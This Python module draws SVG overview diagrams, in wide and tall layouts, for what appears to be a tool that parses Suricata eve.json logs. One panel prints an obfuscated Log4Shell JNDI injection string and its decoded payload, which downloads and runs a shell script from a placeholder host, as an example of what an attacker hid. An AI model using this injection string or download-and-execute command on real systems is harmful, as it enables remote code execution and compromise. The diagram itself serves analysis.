"""Draw the picture of the front page, once for wide screens and once for telephones."""

from __future__ import annotations

from typing import TYPE_CHECKING

from drawing_shapes import FAINT, INK, KINDS, LINE, MARGIN, PAPER, box, page, text

if TYPE_CHECKING:
    from pathlib import Path

__all__ = ["draw"]

WIDTH, HEIGHT, GAP = 300, 250, 74

LINES = [
    ("http", '"flow_id":1563375…,"http":{'),
    ("dns", '"flow_id":9941084…,"dns":{'),
    ("alert", '"flow_id":1187302…,"alert":{'),
    ("flow", '"flow_id":1563375…,"flow":{'),
    ("http", '"flow_id":1187302…,"http":{'),
    ("alert", '"flow_id":1187302…,"alert":{'),
    ("flow", '"flow_id":1187302…,"flow":{'),
]


def _panel(x: float, y: float, title: str) -> list[str]:
    return [
        box(x, y, WIDTH, HEIGHT, fill=PAPER, edge=LINE),
        text(x + 14, y + 26, title, size=15),
    ]


def _file(x: float, y: float) -> list[str]:
    parts = _panel(x, y, "eve.json: one event a line")
    for place, (kind, rest) in enumerate(LINES):
        row = y + 56 + 28 * place
        parts += [
            box(x + 14, row - 13, 46, 18, fill=KINDS[kind]),
            text(x + 19, row, kind, color=PAPER, size=12, mono=True),
            text(x + 66, row, rest, color=FAINT, size=12, mono=True),
        ]
    return parts


def _frame(x: float, y: float) -> list[str]:
    parts = _panel(x, y, "a typed frame, rows by event type")
    columns = {"http": (0, 1, 2, 3), "dns": (0, 1, 4), "alert": (0, 1, 2, 5), "flow": (0, 1, 6)}
    names = ["timestamp", "flow_id", "", "", "", "", ""]
    parts += [
        text(x + 62 + 68 * place, y + 54, name, color=FAINT, size=11, mono=True)
        for place, name in enumerate(names)
        if name
    ]
    row = y + 64
    for kind, filled in columns.items():
        for _ in range(2):
            parts.append(text(x + 14, row + 14, kind, color=KINDS[kind], size=12, mono=True))
            for column in range(7):
                left = x + 62 + (68 * column if column < 2 else 136 + 18 * (column - 2))
                wide = 62 if column < 2 else 13
                fill = KINDS[kind] if column in filled else "#f1f5f9"
                parts.append(box(left, row, wide, 17, fill=fill))
            row += 22
        row += 2
    return parts


def _finding(x: float, y: float) -> list[str]:
    url = ["${${lower:j}ndi:ldap://203.0.113.77", ":1389/Base64/d2dldCBodHRwOi8v…}"]
    return [
        *_panel(x, y, "what the attacker hid"),
        *(
            text(x + 14, y + 54 + 18 * place, line, color=KINDS["alert"], size=12, mono=True)
            for place, line in enumerate(url)
        ),
        text(x + 14, y + 106, "resolved", color=FAINT, size=12),
        text(x + 14, y + 124, "${jndi:ldap://203.0.113.77:1389/…}", size=12, mono=True),
        text(x + 14, y + 152, "callback", color=FAINT, size=12),
        text(x + 14, y + 170, "203.0.113.77, port 1389", size=12, mono=True),
        text(x + 14, y + 198, "decoded", color=FAINT, size=12),
        text(x + 14, y + 216, "wget http://203.0.113.77/lh.sh;", size=12, mono=True),
        text(x + 14, y + 234, "chmod +x lh.sh;./lh.sh", size=12, mono=True),
    ]


def _arrow(x: float, y: float, label: str, *, down: bool) -> list[str]:
    if down:
        path, place = f"M{x} {y}v44m-7 -9l7 9l7 -9", (x + 16, y + 27)
    else:
        path, place = f"M{x} {y}h54m-9 -7l9 7l-9 7", (x - 3, y - 12)
    return [
        f'<path d="{path}" fill="none" stroke="{INK}" stroke-width="2"/>',
        text(*place, label, size=12, mono=True),
    ]


def _picture(*, tall: bool) -> str:
    step = (0, HEIGHT + 56) if tall else (WIDTH + GAP, 0)
    size = (WIDTH, 3 * HEIGHT + 112) if tall else (3 * WIDTH + 2 * GAP, HEIGHT)
    parts: list[str] = []
    for place, panel in enumerate((_file, _frame, _finding)):
        parts += panel(MARGIN + place * step[0], MARGIN + place * step[1])
    for place, label in enumerate(("read_eve", "payloads")):
        if tall:
            x, y = MARGIN + WIDTH / 2, MARGIN + HEIGHT + 6 + place * step[1]
        else:
            x, y = MARGIN + WIDTH + 10 + place * step[0], MARGIN + HEIGHT / 2
        parts += _arrow(x, y, label, down=tall)
    return page(parts, *size)


def draw(folder: Path) -> None:
    """Write ``overview-wide.svg`` and ``overview-tall.svg`` into a folder."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, tall in (("wide", False), ("tall", True)):
        (folder / f"overview-{name}.svg").write_text(_picture(tall=tall), encoding="utf-8")
